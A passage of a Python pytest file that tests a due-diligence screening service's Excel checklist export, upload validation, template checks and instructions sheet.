    first = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"), headers=crm).get_json()
    data = client.get(f"/v1/screenings/{first['id']}/checklist.xlsx", headers=export).data
    path = directory / "state-dept-2020.yaml"
    path.write_text(path.read_text().replace('version: "2026.1"', 'version: "2027.1"'))
    response = client.post(f"/v1/screenings/{first['id']}/checklist", data=fill(data, {"past_misuse": "No"}),
                           headers={**export, "Content-Type": XLSX})
    assert response.status_code == 422 and response.get_json()["code"] == "checklist_mismatch"
    assert "2027.1" in response.get_json()["message"]
    store.engine.dispose()


@pytest.mark.store
def test_answers_use_the_templates_question_ids_and_a_broken_edit_refuses_nothing(app_config, tmp_path, monkeypatch):
    import hrdd_plugins.checklist as checklist_plugin

    import hrdd.services
    app, directory, client, store, crm = _app_with_own_templates(app_config, tmp_path)
    body = load_fixture("transaction_egypt_biometric.json")
    body["answers"] = {"intermediaries_vetted": "yes"}  # a template question no check reads
    assert client.post("/v1/screenings?dry_run=true", json=body, headers=crm).status_code == 200
    body["answers"] = {"intermediaries_veted": "yes"}
    refused = client.post("/v1/screenings?dry_run=true", json=body, headers=crm)
    assert refused.status_code == 422 and "intermediaries_vetted" in str(refused.get_json()["errors"])
    monkeypatch.setattr(checklist_plugin, "RECHECK_SECONDS", 0.0)
    monkeypatch.setattr(hrdd.services, "ANSWER_IDS_SECONDS", 0.0)
    _write_template(directory, "broken", BROKEN)  # edited after start-up
    assert client.post("/v1/screenings?dry_run=true", json=body, headers=crm).status_code == 200
    store.engine.dispose()


@pytest.mark.store
def test_broken_template_refuses_start_up(app_config, tmp_path):
    from server import create_app
    directory = tmp_path / "checklists"
    shutil.copytree(TEMPLATES_DIR, directory)
    _write_template(directory, "broken", BROKEN)
    with pytest.raises(TemplateError, match="broken.yaml"):
        create_app({**app_config, "HRDD_CHECKLISTS_DIR": str(directory)})


def test_checklist_command_writes_the_workbook(app, screened, tmp_path):
    from flask.cli import ScriptInfo
    output = tmp_path / "out.xlsx"
    runner = CliRunner()
    obj = ScriptInfo(create_app=lambda: app)
    result = runner.invoke(_cli(), ["checklist", screened["id"], "-o", str(output), "--template",
                                    "bis-kyc-red-flags"], obj=obj)
    assert result.exit_code == 0, result.output
    meta = {r[0]: r[1] for r in open_xlsx(output.read_bytes())["hrdd_meta"].iter_rows(values_only=True)}
    assert meta["screening_id"] == screened["id"] and meta["template_id"] == "bis-kyc-red-flags"
    missing = runner.invoke(_cli(), ["checklist", "scr_nope", "-o", str(output)], obj=obj)
    assert missing.exit_code != 0 and "does not exist" in missing.output


def test_choices_match_the_canonical_answer_values():
    from hrdd.model import ANSWER_VALUES
    assert sorted(CHOICES.values()) == sorted(ANSWER_VALUES)


@pytest.mark.parametrize("error_value", ["#N/A", "#REF!", "#DIV/0!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!"])
def test_error_values_from_the_deal_keep_excels_quote_prefix(error_value):
    # Re-entered in Excel without the quote prefix, "#N/A" becomes the error value, not the party's name.
    screening = load_fixture("checklist_screening_hostile.json")
    screening["transaction"]["parties"][0]["name"] = error_value
    wb = open_xlsx(build_workbook(screening, TEMPLATES["state-dept-2020"]))
    cells = [c for row in wb["Parties"].iter_rows() for c in row if c.value == error_value]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_misspelt_answer_id_is_named_as_the_answer_with_the_accepted_ids(client, auth_headers, transaction):
    for value in ("yes", "maybe"):
        transaction["answers"] = {"past_missuse": value}
        response = client.post("/v1/screenings", json=transaction, headers=auth_headers("crm"))
        body = response.get_json()
        assert response.status_code == 422
        assert "answers.past_missuse" in body["message"] and "answers.past_missuse.key" not in body["message"]
        [message, *rest] = body["errors"]["answers"]["past_missuse"]
        assert "'past_missuse'" in message and "past_misuse" in message.split("known:")[1]
        assert all(qid in message for qid in TEMPLATES["state-dept-2020"].question_ids)


@needs_soffice
def test_dates_and_statuses_saved_by_libreoffice_pass_the_upload_checks(tmp_path):
    from datetime import date

    from hrdd.checklists.templates import get_template
    from hrdd.checklists.upload import read_checklist
    screening = load_fixture("checklist_screening_eg.json")

    def edit(wb):
        ws, summary = wb["Questions"], wb["Summary"]
        row = question_rows(ws)["past_misuse"]
        ws.cell(row=row, column=11).value, ws.cell(row=row, column=12).value = date(2027, 1, 15), "In progress"
        signed = next(r for r in range(1, summary.max_row + 1) if summary.cell(row=r, column=1).value == "Approver")
        summary.cell(row=signed, column=2).value = "Bea Approver"
        summary.cell(row=signed, column=4).value = date(2026, 12, 7)
    def words(wb):
        edit(wb)
        ws = wb["Questions"]
        ws.cell(row=question_rows(ws)["exports_to_abusers"], column=11).value = "next week"
    workbook = build_workbook(screening, TEMPLATES["state-dept-2020"])
    for name, edits in (("dates.xlsx", edit), ("words.xlsx", words)):
        (tmp_path / name).write_bytes(fill(workbook, {"past_misuse": "No"}, edits))
        _soffice(["--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(tmp_path / "out"), name], tmp_path)
    checked = read_checklist((tmp_path / "out" / "dates.xlsx").read_bytes(), screening,
                             lambda tid: get_template(TEMPLATES_DIR, tid))
    response = checked.record["responses"]["past_misuse"]
    assert (response["due_date"], response["status"]) == ("2027-01-15", "In progress")
    assert checked.record["signoff"]["approver"] == {"name": "Bea Approver", "comment": None, "date": "2026-12-07"}
    # Words typed into a date cell stay words through LibreOffice, and are refused naming the cell.
    from hrdd.errors import ApiError
    with pytest.raises(ApiError) as refused:
        read_checklist((tmp_path / "out" / "words.xlsx").read_bytes(), screening,
                       lambda tid: get_template(TEMPLATES_DIR, tid))
    row = question_rows(open_xlsx(workbook)["Questions"])["exports_to_abusers"]
    assert refused.value.status == 422 and f"Questions!K{row}" in refused.value.message


# ---------------------------------------------------------------- the instructions sheet

@pytest.mark.parametrize("template_id", sorted(TEMPLATES))
def test_the_first_sheet_says_how_to_fill_the_workbook_in(template_id):
    screening = load_fixture("checklist_screening_eg.json")
    template = TEMPLATES[template_id]
    wb = open_xlsx(build_workbook(screening, template))
    ws = wb.worksheets[0]
    assert ws.title == "How to fill this in" and wb.active.title == ws.title
    assert [w.title for w in wb.worksheets if w.sheet_view.tabSelected] == [ws.title]  # not grouped
    rows = {r[0]: r[1] for r in ws.iter_rows(min_row=4, max_col=2, values_only=True) if r[0]}
    assert list(rows) == [i["heading"] for i in template.instructions]
    text = "\n".join(rows.values())
    for said in ("yellow", "A blank answer leaves the answer", "Unknown does not take back", "Yes:", "N/A:",
                 f"POST /v1/screenings/{screening['id']}/checklist", "at most 5 MiB", "critical or high",
                 "Open (not started)", "Mitigated", "export role"):
        assert said in text, said
    assert "{" not in text
    assert ws.protection.sheet and all(c.protection.locked is not False for row in ws.iter_rows() for c in row)
    assert ws.print_area and ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert all(ws.cell(row=r, column=2).alignment.wrap_text for r in range(4, 4 + len(rows)))


def test_the_instructions_are_the_templates_text_with_the_services_limits(app_config, tmp_path, request):
    directory = tmp_path / "checklists"
    shutil.copytree(TEMPLATES_DIR, directory)
    path = directory / "state-dept-2020.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "  - heading: A blank cell\n", "  - heading: Ask compliance\n    text: Call Dana on 4417 ({template_id}).\n"
        "  - heading: A blank cell\n"), encoding="utf-8")
    app_config.update(HRDD_CHECKLISTS_DIR=str(directory), HRDD_CHECKLIST_MAX_UPLOAD=2 * 1024 * 1024)
    client, headers = request.getfixturevalue("client"), request.getfixturevalue("auth_headers")
    screening = client.post("/v1/screenings", json=load_fixture("transaction_egypt_biometric.json"),
                            headers=headers("crm")).get_json()
    ws = open_xlsx(download(client, headers, screening["id"]))["How to fill this in"]
    rows = {r[0]: r[1] for r in ws.iter_rows(min_row=4, max_col=2, values_only=True) if r[0]}
    assert rows["Ask compliance"] == "Call Dana on 4417 (state-dept-2020)."
    assert "at most 2 MiB" in rows["Uploading"]


def test_an_unknown_placeholder_in_the_instructions_is_a_template_problem(tmp_path):
    text = (TEMPLATES_DIR / "bis-kyc-red-flags.yaml").read_text(encoding="utf-8")
    _write_template(tmp_path, "bis-kyc-red-flags", text.replace("{max_upload}", "{max_uplaod}"))
    _, [bad] = check_directory(tmp_path)
    assert any("unknown placeholder(s) {max_uplaod}" in p and "{max_upload}" in p for p in bad.problems)
